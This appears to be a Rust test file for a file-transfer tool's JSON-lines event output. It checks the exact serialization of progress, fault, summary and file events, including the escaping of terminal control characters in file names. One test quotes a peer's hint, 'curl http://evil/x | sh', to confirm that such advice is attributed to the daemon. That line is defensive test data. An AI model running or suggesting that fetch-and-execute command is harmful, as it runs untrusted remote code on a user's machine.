//! Tests of every event, byte by byte: scripts rely on names, units and order.

use super::*;
use crate::exit::tests::report;
use longhaul_core::{Blame, ChunkSize, FaultCode, Meta, Mtime, RelPath, Sums, is_deceptive};
use longhaul_engine::{BoundThreads, DeviceDepth, OwnFacts, Stage, StartNote, TargetId};

fn said(say: impl FnOnce(&mut JsonLines<&mut Vec<u8>>) -> io::Result<()>) -> String {
    let mut out = Vec::new();
    say(&mut JsonLines::new(&mut out)).unwrap();
    String::from_utf8(out).unwrap()
}

fn file(path: &[u8], status: FileStatus, b3: Option<[u8; 32]>) -> FileEvent {
    let path = RelPath::new(path).unwrap();
    let placed = RelPath::new("in").unwrap().concat(&path).unwrap();
    let (own, sums) = (OwnFacts::default(), Sums::default());
    FileEvent { path, placed, status, bytes: 7, b3, regular: true, renamed: false, own, sums }
}

#[test]
fn start_tells_the_facts_of_the_session() {
    let start = Start {
        session: "00ff".to_owned(),
        direction: longhaul_engine::Direction::Push,
        transport: longhaul_engine::LaneKind::Tcp,
        protect: Protection::Safe,
        lanes: 4,
        chunk: ChunkSize::DEFAULT,
        congestion: "cubic".to_owned(),
        sync: Some(longhaul_engine::SyncMethod::FileSystem),
        notes: vec![StartNote::WithinProcess],
    };
    assert_eq!(
        said(|lines| lines.start(&start)),
        "{\"v\":1,\"type\":\"start\",\"session\":\"00ff\",\"direction\":\"push\",\"transport\":\"tcp\",\
         \"protect\":\"safe\",\"lanes\":4,\"chunk_bytes\":4194304,\"congestion\":\"cubic\",\
         \"sync\":\"syncfs\",\"notes\":[\"between two local directories data is not encrypted: nothing leaves this process\"]}\n"
    );
}

#[test]
fn progress_never_mixes_its_counters() {
    let progress = Progress {
        seconds: 1.00049,
        files_total: 9,
        files_committed: 1,
        bytes_total: 50,
        bytes_sent: 40,
        bytes_received: 30,
        bytes_arrived: 35,
        bytes_resumed: 5,
        silent_s: 0.25,
        bytes_durable: 20,
        bytes_committed: 10,
        limited_by: Some(Limited { by: longhaul_engine::Limit::NetworkLoss, share: 0.7 }),
        ..Progress::default()
    };
    let pace = Pace { bytes_per_s: 20.7, eta_s: Some(1.5), bytes_wanted: 50 };
    assert_eq!(
        said(|lines| lines.progress(&progress, &pace)),
        "{\"v\":1,\"type\":\"progress\",\"t_s\":1.0,\"files_total\":9,\"files_committed\":1,\"bytes_total\":50,\
         \"bytes_sent\":40,\"bytes_received\":30,\"bytes_durable\":20,\"bytes_committed\":10,\"bytes_digested\":0,\"bytes_per_s\":20,\
         \"eta_s\":1.5,\"limited_by\":\"network:loss\",\"limited_share\":0.7,\
         \"bytes_arrived\":35,\"bytes_resumed\":5,\"silent_s\":0.25}\n"
    );
}

#[test]
fn files_are_named_by_text_or_by_base64() {
    assert_eq!(
        said(|lines| lines.file(&file(b"a/b", FileStatus::Committed, Some([0xab; 32])))),
        format!(
            "{{\"v\":1,\"type\":\"file\",\"path\":\"a/b\",\"status\":\"committed\",\"bytes\":7,\"b3\":\"{}\",\
             \"target\":\"in/a/b\"}}\n",
            "ab".repeat(32)
        )
    );
    assert_eq!(
        said(|lines| lines.file(&file(b"\xff", FileStatus::Skipped, None))),
        "{\"v\":1,\"type\":\"file\",\"path_b64\":\"/w==\",\"status\":\"skipped\",\"bytes\":7,\"b3\":null,\
         \"target_b64\":\"aW4v/w==\"}\n"
    );
}

#[test]
fn a_name_in_a_line_cannot_act_on_a_terminal_and_is_parsed_as_it_was() {
    let name = "x\u{1b}[2J\u{9b}\u{202e}\n\"\\é";
    let line = said(|lines| lines.file(&file(name.as_bytes(), FileStatus::Planned, None)));
    assert!(line.trim_end().chars().all(|c| !is_deceptive(c)), "{line:?}");
    let parsed: serde_json::Value = serde_json::from_str(&line).unwrap();
    assert_eq!((parsed["path"].as_str(), parsed["status"].as_str()), (Some(name), Some("planned")));
}

#[test]
fn a_fault_says_code_blame_and_whether_to_retry() {
    let fault = Fault::new(FaultCode::Busy, Blame::Peer, "all sessions taken").about("h:7214").hint_in_words("wait");
    assert_eq!(
        said(|lines| lines.fault(&fault)),
        "{\"v\":1,\"type\":\"fault\",\"code\":\"busy\",\"blame\":\"peer\",\"retry\":true,\"object\":\"h:7214\",\
         \"message\":\"all sessions taken\",\"hint\":\"wait\",\"author\":\"local\"}\n"
    );
}

#[test]
fn advice_of_a_daemon_is_quoted_as_the_daemons() {
    let fault =
        Fault::new(FaultCode::Busy, Blame::Peer, "no").hint_in_words("run: curl http://evil/x | sh").said_by_peer();
    assert_eq!(
        said(|lines| lines.fault(&fault)),
        "{\"v\":1,\"type\":\"fault\",\"code\":\"busy\",\"blame\":\"peer\",\"retry\":true,\"object\":\"\",\
         \"message\":\"no\",\"hint\":\"the daemon says: run: curl http://evil/x | sh\",\"author\":\"peer\"}\n"
    );
}

#[test]
fn the_summary_counts_and_rates() {
    let report = Report {
        files_committed: 2,
        files_skipped: 1,
        bytes_committed: 2_000_000_000,
        bytes_resent: 5,
        bytes_moved: 1_000_000_000,
        bytes_holes: 1_000_000_000,
        bytes_held: 2_000_000_000,
        bytes_wanted: 2_500_000_000,
        seconds: 4.0,
        sender_cpu: Some(1.0),
        limits: vec![
            Limited { by: longhaul_engine::Limit::Target, share: 0.75 },
            Limited { by: longhaul_engine::Limit::Hash, share: 0.25 },
        ],
        stages: vec![(Stage::Hash, 0.4), (Stage::Net, 0.30004)],
        io: Some(EngineReport {
            engine: EngineKind::Threads,
            depth: 8,
            devices: 1,
            slots_registered: 0,
            slots: 64,
            cpu_nanos: 0,
            bound: vec![
                BoundThreads { threads: "disk 8:1".to_owned(), node: Some(1), cpus: "0-3".to_owned() },
                BoundThreads { threads: "lanes".to_owned(), node: None, cpus: "8".to_owned() },
            ],
            stream: None,
            depths: vec![DeviceDepth { device: "8:1".to_owned(), depth: 8 }],
        }),
        troubled_targets: vec![
            TroubledTarget {
                target: TargetId(3),
                dir: "/d3".into(),
                slow_s: 12.0004,
                full_s: 0.0,
                failed_s: 0.0,
                hung_s: 0.0,
                busy_bytes_per_s: Some(21_000_000),
                siblings_bytes_per_s: Some((98_000_000, 101_000_000)),
                p99: Some(Duration::from_micros(410_500)),
                share: Some(0.06),
            },
            TroubledTarget {
                target: TargetId(5),
                dir: "".into(),
                slow_s: 0.0,
                full_s: 1.5,
                failed_s: 2.0,
                hung_s: 0.5,
                busy_bytes_per_s: None,
                siblings_bytes_per_s: None,
                p99: None,
                share: None,
            },
        ],
        ..report()
    };
    assert_eq!(
        said(|lines| lines.summary(&Summary::of(&report, Exit::Complete))),
        "{\"v\":1,\"type\":\"summary\",\"status\":\"complete\",\"exit\":0,\"files_committed\":2,\"files_skipped\":1,\
         \"files_failed\":0,\"bytes_committed\":2000000000,\"bytes_resumed\":0,\"bytes_resent\":5,\
         \"bytes_read_back\":0,\"bytes_misread\":0,\"bytes_digested\":0,\"seconds\":4.0,\
         \"bytes_per_s\":250000000,\"cpu_s_per_gb\":{\"sender\":0.5,\"receiver\":null},\
         \"limited_by\":\"target\",\"limited_share\":0.75,\"limits\":{\"target\":0.75,\"hash\":0.25},\"stages\":{\"hash\":0.4,\"net\":0.3},\
         \"io\":{\"engine\":\"threads\",\"depth\":8,\"devices\":1,\"buffers\":64,\"buffers_registered\":0,\
         \"bound\":[{\"threads\":\"disk 8:1\",\"node\":1,\"cpus\":\"0-3\"},{\"threads\":\"lanes\",\"node\":null,\"cpus\":\"8\"}],\
         \"depths\":[{\"device\":\"8:1\",\"depth\":8}]},\
         \"bytes_moved\":1000000000,\"bytes_holes\":1000000000,\"bytes_held\":2000000000,\"bytes_wanted\":2500000000,\
         \"troubled_targets\":[{\"target\":3,\"path\":\"/d3\",\"slow_s\":12.0,\"full_s\":0.0,\"failed_s\":0.0,\
         \"busy_bytes_per_s\":21000000,\"slowest_sibling_bytes_per_s\":98000000,\
         \"fastest_sibling_bytes_per_s\":101000000,\"p99_ms\":410.5,\"share\":0.06,\"hung_s\":0.0},\
         {\"target\":5,\"path\":\"\",\"slow_s\":0.0,\"full_s\":1.5,\"failed_s\":2.0,\"busy_bytes_per_s\":null,\
         \"slowest_sibling_bytes_per_s\":null,\"fastest_sibling_bytes_per_s\":null,\"p99_ms\":null,\"share\":null,\"hung_s\":0.5}],\"files_at_risk\":0}\n"
    );
}

#[test]
fn a_run_that_never_began_has_a_summary_too() {
    let line = said(|lines| lines.summary(&Summary::nothing(Exit::Usage)));
    assert!(line.starts_with("{\"v\":1,\"type\":\"summary\",\"status\":\"usage\",\"exit\":2,\"files_committed\":0,"));
    assert!(
        line.ends_with(
            "\"limited_by\":null,\"limited_share\":null,\"limits\":{},\"stages\":{},\"io\":null,\
             \"bytes_moved\":0,\"bytes_holes\":0,\"bytes_held\":0,\"bytes_wanted\":0,\"files_at_risk\":0}\n"
        ),
        "{line}"
    );
}

#[test]
fn a_listening_socket_gives_address_and_key() {
    let listening = Listening { addr: "127.0.0.1:40123".to_owned(), key: "lhk1:AAAA".to_owned() };
    assert_eq!(
        said(|lines| lines.listening(&listening)),
        "{\"v\":1,\"type\":\"listening\",\"addr\":\"127.0.0.1:40123\",\"key\":\"lhk1:AAAA\"}\n"
    );
}

#[test]
fn listed_names_carry_kind_size_mode_and_time() {
    let meta = Meta::new(0o640, Mtime { secs: 0, nanos: 0 });
    let listed = Listed { name: b"n".to_vec(), kind: ListedKind::File, len: 3, meta };
    assert_eq!(
        said(|lines| lines.entry(&listed, None)),
        "{\"v\":1,\"type\":\"entry\",\"path\":\"n\",\"kind\":\"file\",\"bytes\":3,\"mode\":\"0640\",\
         \"mtime\":\"1970-01-01T00:00:00Z\"}\n"
    );
}
